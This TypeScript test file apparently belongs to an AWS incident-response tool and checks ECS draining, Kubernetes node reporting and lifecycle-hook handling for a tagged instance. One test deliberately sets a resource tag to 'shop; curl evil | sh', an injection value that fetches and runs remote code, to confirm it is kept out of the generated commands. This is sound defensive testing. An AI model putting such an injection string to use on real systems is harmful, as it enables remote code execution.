/** Subjects that are part of something, in whole drills: containers drained after the evidence, nodes told of, a group that is about to terminate. */

import { breachesOf } from '../../prove/laws/laws';
import type { Range } from '../../range/range';
import type { Staged } from '../../range/scenarios/scenario';
import { awaitHooks } from '../../range/services/autoscaling/hooks';
import type { LifecycleHook } from '../../range/services/autoscaling/state';
import { terminateInstance } from '../../range/services/ec2/lifecycle';
import { addCluster, addContainerInstance, addTask } from '../../range/services/ecs/builders';
import { callsTo, entered, entry, nameOf, type Played, play } from './play';

const scenario = 'tagged-by-analyst';

const startOf = (played: Played, state: string): number =>
  entry(played, state).timestamp?.getTime() ?? Number.NaN;

describe('an ECS container instance', () => {
  const arrange = ({ world }: Range, { subject }: Staged): void => {
    const cluster = addCluster(world, 'shop');
    const container = addContainerInstance(world, cluster, subject.id);
    addTask(world, cluster, container, { service: 'web' });
  };

  test('drains once the evidence is taken, by a state that no other subject enters, and goes back with a release', async () => {
    const release = { start: true, replacement: 'keep' } as const;
    const played = await play({ scenario, mode: 'online', arrange, release });
    expect(startOf(played, 'DrainContainers')).toBeGreaterThan(startOf(played, 'CloseChannel'));
    expect(callsTo(played, 'ecs:UpdateContainerInstancesState').map(({ input }) => input)).toMatchObject([
      { status: 'DRAINING' },
      { status: 'ACTIVE' },
    ]);
    expect(played.verdict.attention.join()).toMatch(
      /ECS container instance of .*shop with 1 running tasks: set to DRAINING/,
    );
    expect(played.release).toMatchObject({ outcome: 'released' });
    expect(played.score.transitions.total).toBeLessThanOrEqual(30);
  });

  test('is not drained for others', async () => {
    const played = await play({ scenario, mode: 'online' });
    expect(entered(played)).not.toContain('DrainContainers');
  });
});

test('of a Kubernetes node the report names the commands to run, and a hostile name in its tags gets into none', async () => {
  const arrange = (_: Range, { subject }: Staged): void => {
    subject.tags.set('eks:cluster-name', 'shop; curl evil | sh');
    subject.tags.set('eks:nodegroup-name', 'workers');
  };
  const played = await play({ scenario, mode: 'online', arrange });
  const note = played.verdict.attention.find((each) => each.includes('Kubernetes')) ?? '';
  expect(note).toContain('(name unknown)');
  expect(note).toMatch(/kubectl cordon [a-z0-9.-]+; kubectl label node/);
  expect(note).not.toContain('curl');
});

describe('a group that is about to terminate the subject', () => {
  const arrange = ({ world }: Range, { subject }: Staged): void => {
    const [group] = world.autoscaling.groups.values();
    const member = group?.instances.get(subject.id);
    if (!group || !member) throw new Error('the subject is in no group');
    const transition = 'EC2_INSTANCE_TERMINATING';
    const hook = {
      name: 'logs',
      transition,
      heartbeatTimeoutSeconds: 300,
      defaultResult: 'CONTINUE',
    } as const;
    (group.lifecycleHooks as LifecycleHook[]).push(hook);
    awaitHooks(world, group, member, transition, () => terminateInstance(world, subject));
  };

  test('waits for the snapshots: its hook is kept alive, again where they have to be tried again, and the report says until when', async () => {
    const faults = [
      { service: 'ec2', operation: 'CreateSnapshots', kind: 'throttled', nth: [1, 2] },
    ] as const;
    const played = await play({ scenario: 'web-server-c2', mode: 'online', arrange, faults });
    const beats = callsTo(played, 'autoscaling:RecordLifecycleActionHeartbeat');
    const [snapshots] = callsTo(played, 'ec2:CreateSnapshots').filter(({ error }) => error === undefined);
    expect(beats).toHaveLength(3);
    for (const { at } of beats) expect(at).toBeLessThan(snapshots?.at ?? Number.NaN);
    expect(entered(played).filter((state) => state === 'KeepAlive')).toHaveLength(2);
    expect(played.verdict.attention.join()).toMatch(
      /terminates the subject: a lifecycle hook holds it until 2026-/,
    );
    expect(played.calls.filter(({ operation }) => operation === 'DetachInstances').map(nameOf)).toEqual([]);
  });
});

test('every law holds for a subject that is part of everything at once', async () => {
  const played = await play({
    scenario: 'web-server-c2',
    mode: 'online',
    arrange: ({ world }, { subject }) => {
      addContainerInstance(world, addCluster(world, 'shop'), subject.id);
      subject.tags.set('karpenter.sh/nodepool', 'default');
    },
  });
  expect(breachesOf(played)).toEqual([]);
});
